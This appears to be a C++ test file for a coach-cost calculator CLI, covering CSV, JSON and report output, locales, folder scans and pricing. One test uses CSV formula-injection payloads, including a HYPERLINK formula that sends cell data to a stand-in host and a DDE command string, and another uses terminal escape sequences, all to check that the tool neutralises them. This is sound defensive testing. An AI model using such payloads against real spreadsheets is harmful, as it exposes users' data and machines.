    return '"' + aWindows1252(descripcion).replace('"', "\"\"") + '"' + archivo.mid(archivo.indexOf("\r\n"));
}

} // namespace

TEST(PelmoraCalc, CsvMuestraComoTextoLoQueEmpiezaComoUnaFormula)
{
    QTemporaryDir dir;
    const QString descripciones[] = {"=HYPERLINK(\"http://x.example/?x=\"&A1;\"Pulse\")", "=SUM(10;20)",
                                     "=cmd|' /C calc'!A0", "+34", "-1", "@A1", "\t=1"};
    QStringList nombres;
    for (int k = 0; k < int(std::size(descripciones)); ++k) {
        nombres << QString("=1+%1.clc").arg(k);
        ASSERT_TRUE(escribirArchivo(dir.filePath(nombres.back()), conDescripcion(leer(kReferencia), descripciones[k])));
    }
    const Salida s = ejecutar(QStringList{"--csv"} + nombres, "en_US.UTF-8", 60000, 0, dir.path());
    ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
    const std::vector<QStringList> filas = celdasCsv(s.out.mid(1), ',');
    const QStringList normal = celdasCsv(QString::fromUtf8(ejecutar({"--csv", kReferencia}, "en_US.UTF-8").outBytes)
                                             .mid(1), ',')[1];
    ASSERT_EQ(filas.size(), std::size(descripciones) + 1) << s.out.toStdString();
    for (int k = 0; k < int(std::size(descripciones)); ++k) {
        const QStringList &f = filas[size_t(k) + 1];
        EXPECT_EQ(f[0], "'" + nombres[k]);
        EXPECT_EQ(f[1], "'" + descripciones[k]);
        EXPECT_EQ(f.mid(2), normal.mid(2)) << k; // the figures as they are, as numbers
    }
}

TEST(PelmoraCalc, LosCaracteresDeControlDeUnTextoSeVenEnLugarDeActuar)
{
    QTemporaryDir dir;
    const QString ruta = dir.filePath("a\x1b[31m.clc");
    // Sets the terminal's title, rings, clears the screen; a C1 control.
    const QString descripcion = QString::fromUtf8("\x1b]0;x\x07\x1b[2J\x7f\xc2\x81 fin");
    ASSERT_TRUE(escribirArchivo(ruta, conDescripcion(leer(kReferencia), descripcion)));
    const QStringList ordenes[] = {{ruta}, {"--sensibilidad", ruta}, {ruta, dir.filePath("falta\x07.clc")}};
    for (const QStringList &args : ordenes) {
        SCOPED_TRACE(args.join(' ').toStdString());
        const Salida s = ejecutar(args);
        EXPECT_TRUE(s.out.contains("Autocar: \\x1b]0;x\\x07\\x1b[2J\\x7f\\x81 fin\n")) << s.out.toStdString();
        EXPECT_TRUE(s.out.contains("Archivo: " + dir.filePath("a\\x1b[31m.clc\n")));
        for (const QChar c : s.out + s.err) // standard error names files too
            ASSERT_TRUE(c == '\n' || (c >= ' ' && c != QChar(0x7F) && (c < QChar(0x80) || c > QChar(0x9F))))
                << int(c.unicode());
    }
}

namespace {

// A folder with one entry of each kind a scan may meet: good files (one
// named in bytes that are not UTF-8), a pipe, a socket, a dangling link and
// a link loop named *.clc, a folder that cannot be read, and a file whose
// path is longer than the system takes.
struct FlotaRara {
    FlotaRara()
    {
        const QByteArray bueno = leer(kReferencia);
        EXPECT_TRUE(escribir("a.clc", bueno));
        EXPECT_TRUE(escribir("b\xff.clc", bueno));
        EXPECT_EQ(::mkfifo(en("c tuberia.clc"), 0644), 0);
        sockaddr_un direccion{};
        direccion.sun_family = AF_UNIX;
        std::strncpy(direccion.sun_path, en("d enchufe.clc").constData(), sizeof direccion.sun_path - 1);
        enchufe = ::socket(AF_UNIX, SOCK_STREAM, 0);
        EXPECT_EQ(::bind(enchufe, reinterpret_cast<sockaddr *>(&direccion), sizeof direccion), 0);
        EXPECT_EQ(::symlink("nada", en("e roto.clc")), 0);
        EXPECT_EQ(::symlink("f bucle.clc", en("f bucle.clc")), 0);
        EXPECT_EQ(::mkdir(en("g cerrada"), 0755), 0);
        EXPECT_TRUE(escribir("g cerrada/dentro.clc", bueno));
        EXPECT_EQ(::chmod(en("g cerrada"), 0), 0);
        EXPECT_EQ(::mkdir(en("h"), 0755), 0);
        int fd = ::open(en("h"), O_RDONLY | O_DIRECTORY);
        const QByteArray largo(250, 'x');
        for (int k = 0; k < 17; ++k) { // 17 x 251 bytes
            EXPECT_EQ(::mkdirat(fd, largo.constData(), 0755), 0);
            const int dentro = ::openat(fd, largo.constData(), O_RDONLY | O_DIRECTORY);
            ::close(fd);
            fd = dentro;
        }
        const int f = ::openat(fd, "x.clc", O_WRONLY | O_CREAT, 0644);
        EXPECT_EQ(::write(f, bueno.constData(), size_t(bueno.size())), bueno.size());
        ::close(f);
        ::close(fd);
        ::chmod(QFile::encodeName(dir.path()).constData(), 0755); // for another user to read
    }
    ~FlotaRara()
    {
        ::close(enchufe);
        ::chmod(en("g cerrada"), 0755);
        QProcess::execute("rm", {"-rf", dir.path()}); // the long path too
    }
    QByteArray en(const char *nombre) const { return QFile::encodeName(dir.path()) + '/' + nombre; }
    bool escribir(const char *nombre, const QByteArray &b) const
    {
        const int fd = ::open(en(nombre), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        const bool bien = fd >= 0 && ::write(fd, b.constData(), size_t(b.size())) == b.size();
        ::close(fd);
        return bien;
    }
    QTemporaryDir dir;
    int enchufe = -1;
};

// pelmora-calc run through the shell, so that its arguments reach it as
// bytes (printf escapes in the last one); as another user when run as root,
// for whom a folder without permissions cannot be read.
Salida ejecutarEnBytes(const QStringList &args, const QString &ultimoEnPrintf)
{
    asegurarAplicacion();
    QProcess p;
    if (::geteuid() == 0)
        p.setChildProcessModifier([] {
            if (::setgid(65534) != 0 || ::setuid(65534) != 0)
                ::_exit(99);
        });
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("LC_ALL", "C.UTF-8");
    env.insert("ULTIMO", ultimoEnPrintf);
    p.setProcessEnvironment(env);
    p.start("/bin/sh", QStringList{"-c", "exec \"$0\" \"$@\" \"$(printf \"$ULTIMO\")\"", kPrograma} + args);
    Salida s;
    p.waitForFinished(60000);
    s.codigo = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
    s.outBytes = p.readAllStandardOutput();
    s.out = QString::fromUtf8(s.outBytes);
    s.err = QString::fromUtf8(p.readAllStandardError());
    return s;
}

} // namespace

TEST(PelmoraCalc, UnaCarpetaDaUnaFilaPorCadaEntradaClcYPorCadaCarpetaQueNoSeLee)
{
    FlotaRara f;
    const Salida s = ejecutarEnBytes({"--csv", f.dir.path()}, f.dir.path() + "/b\\377.clc");
    EXPECT_EQ(s.codigo, 2);
    const std::vector<QStringList> filas = celdasCsv(s.out.mid(1), ',');
    const QString autocar = QString::fromUtf8("Autocar estándar de más de 55 plazas");
    const QString acceso = mensajeErrorArchivo(ErrorArchivo::AccesoDenegado);
    // After the heading, in path order; then the file named.
    const QString motivos[] = {autocar, autocar, acceso, acceso, mensajeErrorArchivo(ErrorArchivo::NoEncontrado),
                               mensajeErrorArchivo(ErrorArchivo::BucleDeEnlaces), acceso,
                               mensajeErrorArchivo(ErrorArchivo::RutaDemasiadoLarga), autocar};
    ASSERT_EQ(filas.size(), std::size(motivos) + 1) << s.out.toStdString() << s.err.toStdString();
    for (size_t k = 0; k < std::size(motivos); ++k)
        EXPECT_EQ(filas[k + 1][1], motivos[k]) << k << " " << filas[k + 1][0].toStdString();
    EXPECT_TRUE(filas[7][0].endsWith("/g cerrada"));
    EXPECT_EQ(s.err.count('\n'), 6) << s.err.toStdString();

    // A folder given that cannot be read is no folder without files.
    const Salida cerrada = ejecutarEnBytes({"--csv"}, f.dir.path() + "/g cerrada");
    EXPECT_EQ(cerrada.codigo, 2);
    EXPECT_EQ(cerrada.err, f.dir.path() + "/g cerrada: " + acceso + "\n");
    EXPECT_EQ(celdasCsv(cerrada.out.mid(1), ',').size(), 2u);
    // A loop named on the command line is told as one.
    EXPECT_EQ(ejecutarEnBytes({}, f.dir.path() + "/f bucle.clc").err,
              mensajeErrorArchivo(ErrorArchivo::BucleDeEnlaces) + "\n");
}

TEST(PelmoraCalc, VariosArchivosEnJsonPorLineasYEnInformes)
{
    Flota f;
    const Salida s = ejecutar({"--json", f.a(), f.falta(), f.b()});
    EXPECT_EQ(s.codigo, 2);
    EXPECT_EQ(s.err, f.falta() + ": Archivo no encontrado.\n");
    const QList<QByteArray> lineas = s.outBytes.split('\n');
    ASSERT_EQ(lineas.size(), 4); // three and the end
    EXPECT_TRUE(lineas[3].isEmpty());
    for (int k : {0, 2}) {
        const QString ruta = k == 0 ? f.a() : f.b();
        const QJsonObject o = analizar(lineas[k]);
        EXPECT_EQ(o.keys(), (QStringList{"Archivo", "ColumnaO", "ColumnaS"}));
        EXPECT_TRUE(lineas[k].startsWith("{\"Archivo\": "));
        EXPECT_EQ(o.value("Archivo").toString(), ruta);
        const QJsonObject solo = analizar(ejecutar({"--json", ruta}).outBytes);
        EXPECT_EQ(o.value("ColumnaS"), solo.value("ColumnaS"));
        EXPECT_EQ(o.value("ColumnaO"), solo.value("ColumnaO"));
    }
    const QJsonObject error = analizar(lineas[1]);
    EXPECT_EQ(error.value("Archivo").toString(), f.falta());
    EXPECT_EQ(error.value("Error").toString(), "Archivo no encontrado.");
    EXPECT_EQ(error.size(), 2);

    // Reports one after the other, each as alone, a blank line between.
    const Salida informes = ejecutar({f.a(), f.b()});
    EXPECT_EQ(informes.codigo, 0);
    EXPECT_EQ(informes.out, ejecutar({f.a()}).out + "\n" + ejecutar({f.b()}).out);
    // A folder without calculations: said on standard error, nothing fails.
    QTemporaryDir vacia;
    const Salida nada = ejecutar({"--csv", vacia.path()});
    EXPECT_EQ(nada.codigo, 0);
    EXPECT_TRUE(nada.err.contains("no hay archivos .clc"));
}

// Many files over several folders, read on several threads: the rows and
// the messages come in path order, one row per file, whatever thread ends
// first.
TEST(PelmoraCalc, MuchosArchivosEnOrdenDeRutas)
{
    QTemporaryDir dir;
    const QByteArray bueno = leer(kReferencia);
    QStringList rutas, rotos;
    for (int k = 0; k < 600; ++k) {
        const QString ruta = dir.filePath(QStringLiteral("g%1/c%2.clc").arg(k % 7).arg(k, 3, 10, QLatin1Char('0')));
        ASSERT_TRUE(QDir().mkpath(QFileInfo(ruta).path()));
        ASSERT_TRUE(escribirArchivo(ruta, k % 13 == 5 ? QByteArray("basura\r\n") : bueno));
        rutas << ruta;
        if (k % 13 == 5)
            rotos << ruta;
    }
    std::sort(rutas.begin(), rutas.end());
    std::sort(rotos.begin(), rotos.end());
    const Salida s = ejecutar({"--csv", dir.path()});
    EXPECT_EQ(s.codigo, 2);
    QStringList mensajes;
    for (const QString &r : rotos)
        mensajes << r + QString::fromUtf8(": Archivo en mal estado.");
    EXPECT_EQ(s.err, mensajes.join('\n') + '\n');
    const QStringList lineas = QString::fromUtf8(s.outBytes.mid(3)).chopped(2).split("\r\n");
    ASSERT_EQ(lineas.size(), rutas.size() + 1);
    for (qsizetype k = 0; k < rutas.size(); ++k)
        EXPECT_EQ(lineas[k + 1].section(';', 0, 0), rutas[k]) << k;
}

TEST(PelmoraCalc, SensibilidadEnJsonComoElMotor)
{
    fijarSeparadores(QLocale(QLocale::Spanish, QLocale::Spain));
    Calculo c;
    ASSERT_EQ(AbrirArchivo(c, kReferencia), ErrorArchivo::Ninguno);
    for (const auto &[opcion, porcentaje] :
         {std::pair<QString, double>{"--sensibilidad", 10.0}, {"--sensibilidad=2,5", 2.5}, {"--sensibilidad=40", 40}}) {
        SCOPED_TRACE(opcion.toStdString());
        const Salida s = ejecutar({opcion, "--json", kReferencia});
        ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
        // The same bytes under English settings.
        EXPECT_EQ(ejecutar({"--json", opcion, kReferencia}, "en_US.UTF-8").outBytes, s.outBytes);
        const QJsonObject raiz = analizar(s.outBytes);
        EXPECT_EQ(raiz.keys(), (QStringList{"Base", "Entradas", "Porcentaje"}));
        EXPECT_EQ(raiz.value("Porcentaje").toDouble(), porcentaje);

        const Sensibilidad r = calcularSensibilidad(c, porcentaje);
        auto ranuras = [](const QJsonValue &v, const ResultadosColumna &esperado) {
            const QJsonArray a = v.toArray();
            ASSERT_EQ(a.size(), kRanurasResultado);
            for (int n = 0; n < kRanurasResultado; ++n) {
                if (esperado[size_t(n)].vacio())
                    EXPECT_TRUE(a[n].isNull()) << n + 1;
                else
                    EXPECT_EQ(a[n].toDouble(), esperado[size_t(n)].n()) << n + 1;
            }
        };
        ranuras(raiz.value("Base"), r.base);
        const QJsonArray entradas = raiz.value("Entradas").toArray();
        ASSERT_EQ(size_t(entradas.size()), r.entradas.size());
        for (qsizetype k = 0; k < entradas.size(); ++k) {
            const QJsonObject e = entradas[k].toObject();
            const EntradaSensibilidad &m = r.entradas[size_t(k)];
            SCOPED_TRACE(m.etiqueta.toStdString());
            EXPECT_EQ(e.size(), 10);
            EXPECT_EQ(e.value("Seccion").toString(), datosSeccion(m.seccion).nombre);
            EXPECT_EQ(e.value("Indice").toInt(), m.indice);
            EXPECT_EQ(e.value("Etiqueta").toString(), m.etiqueta);
            EXPECT_EQ(e.value("Valor").toDouble(), m.valor);
            EXPECT_EQ(e.value("Bajo").toDouble(), m.bajo.valor);
            EXPECT_EQ(e.value("Alto").toDouble(), m.alto.valor);
            EXPECT_EQ(e.value("MensajeBajo").toString(), m.bajo.mensaje);
            EXPECT_EQ(e.value("MensajeAlto").toString(), m.alto.mensaje);
            for (const auto &[clave, lado] : {std::pair{"ResultadosBajo", &m.bajo}, {"ResultadosAlto", &m.alto}}) {
                if (lado->posible)
                    ranuras(e.value(clave), lado->resultados);
                else
                    EXPECT_TRUE(e.value(clave).isNull());
            }
        }
    }
    // The keys of an entry in the order given.
    const QByteArray json = ejecutar({"--sensibilidad", "--json", kReferencia}).outBytes;
    const QByteArray primera = json.mid(json.indexOf("\n    {"), json.indexOf("}", json.indexOf("\n    {")));
    qsizetype ultima = -1;
    for (const char *clave : {"\"Seccion\"", "\"Indice\"", "\"Etiqueta\"", "\"Valor\"", "\"Bajo\"", "\"Alto\"",
                              "\"ResultadosBajo\"", "\"ResultadosAlto\"", "\"MensajeBajo\"", "\"MensajeAlto\""}) {
        EXPECT_GT(primera.indexOf(clave), ultima) << clave;
        ultima = primera.indexOf(clave);
    }
}

TEST(PelmoraCalc, SensibilidadEnTablaYEnCsv)
{
    fijarSeparadores(QLocale(QLocale::Spanish, QLocale::Spain));
    Calculo c;
    ASSERT_EQ(AbrirArchivo(c, kReferencia), ErrorArchivo::Ninguno);
    const Sensibilidad r = calcularSensibilidad(c);
    const Salida s = ejecutar({"--sensibilidad", kReferencia});
    ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
    EXPECT_TRUE(s.out.contains(QString::fromUtf8("cada entrada -10 % y +10 %")));
    // One row per entry in the engine's order, with the values tried.
    const QStringList lineas = s.out.split('\n');
    qsizetype desde = lineas.indexOf(lineaDe(s.out, r.entradas.front().etiqueta));
    ASSERT_GT(desde, 0) << s.out.toStdString();
    for (size_t k = 0; k < r.entradas.size(); ++k)
        EXPECT_TRUE(lineas[desde + qsizetype(k)].startsWith(r.entradas[k].etiqueta + "  ")) << k;
    const QString combustible = lineaDe(s.out, QString::fromUtf8("Precio del carburante con IVA"));
    EXPECT_TRUE(combustible.contains(QRegularExpression("Costes Variables +1,4500 +1,3050 +1,5950 "))) <<
        combustible.toStdString();

    // A percentage out of range is named as typed.
    EXPECT_TRUE(ejecutar({"--sensibilidad=150", kReferencia})
                    .err.startsWith(QString::fromUtf8("pelmora-calc: el porcentaje de --sensibilidad debe ser un "
                                                      "número mayor que 0 y menor que 100, con dos decimales como "
                                                      "mucho: \"150\"\n")));

    const Salida csv = ejecutar({"--sensibilidad=5", "--csv", kReferencia}, "en_US.UTF-8");
    ASSERT_EQ(csv.codigo, 0);
    EXPECT_EQ(csv.outBytes, sensibilidadCsv(calcularSensibilidad(c, 5), formatoCsv(QLatin1Char('.'))));
}

// The same calculation under every regional setting users have: JSON is the
// same bytes, the report and the CSV the same figures with the locale's
// separators (French groups with a narrow no-break space).
TEST(PelmoraCalc, MismasCifrasEnCadaLocale)
{
    enum Tipo { Json, Texto, Csv };
    struct Forma {
        QStringList args;
        Tipo tipo;
    };
    const QString uno = QString::fromUtf8(PELMORA_DATOS "/Vededizaviro/Autocar Estandar 39 a 55 plazas.obs");
    const Forma formas[] = {{{"--json", uno}, Json},
                            {{"--sensibilidad", "--json", uno}, Json},
                            {{uno}, Texto},
                            {{"--sensibilidad", uno}, Texto},
                            {{"--csv", uno, kReferencia}, Csv},
                            {{"--sensibilidad", "--csv", uno}, Csv}};
    // Each figure of a text as C writes it ("," groups, "." decimals); a
    // CSV's cells one by one.
    auto enC = [](QString texto, const QLocale &l, Tipo tipo) {
        const QString grupo = l.groupSeparator(), decimal = l.decimalPoint();
        if (tipo == Csv)
            texto.replace(decimal == QLatin1String(",") ? QLatin1Char(';') : QLatin1Char(','), QLatin1Char('\n'));
        static const QRegularExpression cifra(QStringLiteral("[0-9][0-9.,\u00a0\u202f]*[0-9]|[0-9]"));
        QStringList r;
        for (auto m = cifra.globalMatch(texto); m.hasNext();) {
            QString c = m.next().captured();
            c.replace(grupo, QStringLiteral("\x01")).replace(decimal, QStringLiteral("."));
            r << c.replace(QStringLiteral("\x01"), QStringLiteral(","));
        }
        return r;
    };
    for (const Forma &f : formas) {
        const Salida c = ejecutar(f.args, "C.UTF-8");
        ASSERT_EQ(c.codigo, 0) << c.err.toStdString();
        const QStringList cifrasC = enC(c.out, QLocale::c(), f.tipo);
        ASSERT_GT(cifrasC.size(), 40);
        for (const char *idioma : {"en_US.UTF-8", "es_ES.UTF-8", "ca_ES.UTF-8", "de_DE.UTF-8", "fr_FR.UTF-8"}) {
            SCOPED_TRACE(f.args.join(' ').toStdString() + " en " + idioma);
            const Salida s = ejecutar(f.args, idioma);
            ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
            if (f.tipo == Json)
                EXPECT_EQ(s.outBytes, c.outBytes);
            else
                EXPECT_EQ(enC(s.out, QLocale(QString::fromLatin1(idioma).section('.', 0, 0)), f.tipo), cifrasC);
        }
    }
    EXPECT_TRUE(ejecutar({uno}, "fr_FR.UTF-8").out.contains(QString::fromUtf8("157\u202f537,64")));
    EXPECT_TRUE(ejecutar({uno}, "de_DE.UTF-8").out.contains(QString::fromUtf8("157.537,64")));
}

// ---------------------------------------------------------------------------
// Prices of the services

TEST(PelmoraCalc, PrecioEnJsonExactoSinImportarElIdioma)
{
    const QString ref = QString::fromUtf8(PELMORA_DATOS "/Vededizaviro/Autocar Estandar 39 a 55 plazas.obs");
    const QByteArray esperado =
        "{\"Archivo\": " + textoJson(ref) + ", \"Margen\": 12.00, \"Iva\": 10.00, \"Servicios\": ["
        "{\"Servicio\": 1, \"Coste\": 1029.73, \"PrecioSinIva\": 1170.15, \"ImporteMargen\": 140.42, "
        "\"ImporteIva\": 117.02, \"Total\": 1287.17, \"PorKm\": 2.79, \"PorHora\": 123.17, \"PorPlaza\": 21.67}, "
        "{\"Servicio\": 2, \"Coste\": 2675.96, \"PrecioSinIva\": 3040.86, \"ImporteMargen\": 364.90, "
        "\"ImporteIva\": 304.09, \"Total\": 3344.95, \"PorKm\": 2.76, \"PorHora\": 116.96, \"PorPlaza\": 56.31}, "
        "{\"Servicio\": 3, \"Coste\": 308.34, \"PrecioSinIva\": 350.39, \"ImporteMargen\": 42.05, "
        "\"ImporteIva\": 35.04, \"Total\": 385.43, \"PorKm\": 4.38, \"PorHora\": 87.60, \"PorPlaza\": 6.49}]}\n";
    for (const QString idioma : {"es_ES.UTF-8", "C.UTF-8"})
        for (const QStringList &args : {QStringList{"--precio", "12", "--json", ref},
                                        QStringList{"--json", "--precio=12,00:10", ref}}) {
            const Salida s = ejecutar(args, idioma);
            EXPECT_EQ(s.codigo, 0) << s.err.toStdString();
            EXPECT_EQ(s.outBytes, esperado) << idioma.toStdString() << "\n" << s.outBytes.toStdString();
        }
    // A file that cannot be read: an error line, the others go on, exit code 2.
    const Salida s = ejecutar({"--precio", "50:21", "--json", "no existe.clc", ref});
    EXPECT_EQ(s.codigo, 2);
    const QList<QByteArray> lineas = s.outBytes.split('\n');
    ASSERT_EQ(lineas.size(), 3);
    EXPECT_EQ(analizar(lineas[0]).value("Error").toString(), QString::fromUtf8("Archivo no encontrado."));
    const QJsonObject o = analizar(lineas[1]);
    EXPECT_EQ(o.value("Iva").toDouble(), 21.0);
    const QJsonObject primero = o.value("Servicios").toArray().at(0).toObject();
    EXPECT_EQ(primero.value("PrecioSinIva").toDouble(), 2059.46);
    EXPECT_EQ(primero.value("ImporteIva").toDouble(), 432.49); // 432.4866
    EXPECT_EQ(primero.value("Total").toDouble(), 2491.95);
}

TEST(PelmoraCalc, PrecioEnCsvEInformeYSusErroresDeUso)
{
    const QString ref = QString::fromUtf8(PELMORA_DATOS "/Vededizaviro/Autocar Estandar 39 a 55 plazas.obs");
    const Salida csv = ejecutar({"--precio", "12", "--csv", ref});
    EXPECT_EQ(csv.codigo, 0);
    EXPECT_TRUE(csv.out.contains(ref + ";1;1029,73;1170,15;140,42;117,02;1287,17;2,79;123,17;21,67\r\n"))
        << csv.out.toStdString();
    const Salida informe = ejecutar({"--precio", "12", ref});
    EXPECT_EQ(cifras(lineaDe(informe.out, "Servicio 1"), "Servicio 1"),
              QStringList({"1.029,73", "1.170,15", "140,42", "117,02", "1.287,17", "2,79", "123,17", "21,67"}))
        << informe.out.toStdString();
    for (const QStringList &args :
         {QStringList{"--precio", ref}, QStringList{"--precio", "95,01", ref}, QStringList{"--precio", "12:30,5", ref},
          QStringList{"--precio", "-1", ref}, QStringList{"--precio", "doce", ref}, QStringList{"--precio", "12:", ref},
          QStringList{"--precio", "12:10:4", ref}, QStringList{"--precio", "12", "--referencia", "--csv", ref},
          QStringList{"--precio", "12", "--sensibilidad", ref}, QStringList{"--precio", "12"},
          QStringList{"--precio", "12.345", ref}, QStringList{"--precio", "12:10,005", ref}}) {
        const Salida s = ejecutar(args);
        EXPECT_EQ(s.codigo, 64) << args.join(' ').toStdString();
        EXPECT_TRUE(s.err.contains("Uso: pelmora-calc")) << s.err.toStdString();
    }
}

// The parallel flow behind the folder calls: every file's output delivered
// once, in the order handed, on the handing thread, whatever the number of
// threads and however long each file takes.
TEST(Flujo, EntregaCadaArchivoUnaVezEnOrden)
{
    struct Caso {
        int hilos, archivos;
    };
    for (const Caso c : {Caso{1, 0}, Caso{1, 1}, Caso{1, 300}, Caso{2, 7}, Caso{2, 8}, Caso{2, 9}, Caso{2, 1000},
                         Caso{3, 129}, Caso{8, 2000}}) {
        SCOPED_TRACE(testing::Message() << c.hilos << " hilos, " << c.archivos << " archivos");
        const auto mio = std::this_thread::get_id();
        std::atomic<int> hechos = 0;
        QStringList entregados;
        bool otroHilo = false;
        {
            Flujo flujo(
                [&](const QString &ruta, bool regular) {
                    // Uneven work, so files finish out of order.
                    if (ruta.toInt() % 7 == 0)
                        std::this_thread::sleep_for(std::chrono::microseconds(50));
                    ++hechos;
                    return Hecho{ruta.toUtf8(), regular ? QString() : QStringLiteral("no")};
                },
                [&](const QString &ruta, const Hecho &h) {
                    otroHilo |= std::this_thread::get_id() != mio;
                    EXPECT_EQ(h.salida, ruta.toUtf8());
                    EXPECT_EQ(h.error.isEmpty(), ruta.toInt() % 2 == 0);
                    entregados << ruta;
                },
                c.hilos);
            for (int k = 0; k < c.archivos; ++k)
                flujo.anadir(QString::number(k), k % 2 == 0);
            flujo.terminar();
            EXPECT_EQ(hechos.load(), c.archivos);
        }
        QStringList esperados;
        for (int k = 0; k < c.archivos; ++k)
            esperados << QString::number(k);
        EXPECT_EQ(entregados, esperados);
        EXPECT_FALSE(otroHilo);
    }
}

// A file handed while the walk then pauses is worked on at once by a thread
// that waits for work, not held back until more files come.
TEST(Flujo, UnArchivoNoEsperaAlSiguiente)
{
    std::atomic<int> hechos = 0;
    Flujo flujo([&](const QString &, bool) { ++hechos; return Hecho{}; }, [](const QString &, const Hecho &) {}, 2);
    for (int k = 0; k < 3; ++k) {
        // Once the worker is waiting for work.
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
        flujo.anadir(QStringLiteral("a"), true);
        for (int espera = 0; espera < 500 && hechos.load() <= k; ++espera)
            std::this_thread::sleep_for(std::chrono::milliseconds(2));
        EXPECT_EQ(hechos.load(), k + 1);
    }
    flujo.terminar();
}
